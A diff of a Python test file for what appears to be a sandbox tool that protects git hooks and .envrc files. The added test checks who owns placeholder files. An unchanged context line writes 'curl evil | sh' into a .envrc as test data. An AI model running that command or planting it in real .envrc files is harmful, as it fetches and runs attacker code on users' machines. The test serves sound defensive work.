@@ -603,3 +603,29 @@ def test_a_listing_kept_between_runs_never_hides_a_new_name(jail: Path) -> None:
     r = shallow.run(["sh", "-c", "echo 'curl evil | sh' >> a/.envrc"], cwd=str(jail),
                     capture_output=True)
     assert r.returncode == 0 and "curl" in (sub / ".envrc").read_text(), r
+
+
+def test_a_placeholder_belongs_to_the_owner_of_its_directory(jail: Path) -> None:
+    """A root runtime making a placeholder in a user's repository gives it to the user (the
+    owner of the directory holding it): the user's own git can add a hook afterwards."""
+    import shutil
+    repo = _repo(jail)
+    shutil.rmtree(repo / ".git" / "hooks")
+    owner = (repo / ".git").stat()
+    r = run_cli(repo, "true", extra=["--protect-missing", "placeholders"])
+    assert r.returncode == 0, show(r)
+    for name in (".git/hooks", ".git/commondir", ".envrc"):
+        st = (repo / name).lstat()
+        assert (st.st_uid, st.st_gid) == (owner.st_uid, owner.st_gid), name
+    if os.geteuid() == 0:  # the same, for a repository of another user
+        nobody = 65534
+        for path in [repo, *repo.rglob("*")]:
+            os.lchown(path, nobody, nobody)
+        for name in (".git/hooks", ".git/commondir", ".envrc"):
+            p = repo / name
+            p.rmdir() if p.is_dir() else p.unlink()
+        r = run_cli(repo, "true", extra=["--protect-missing", "placeholders"])
+        assert r.returncode == 0, show(r)
+        for name in (".git/hooks", ".git/commondir", ".envrc"):
+            st = (repo / name).lstat()
+            assert (st.st_uid, st.st_gid) == (nobody, nobody), name
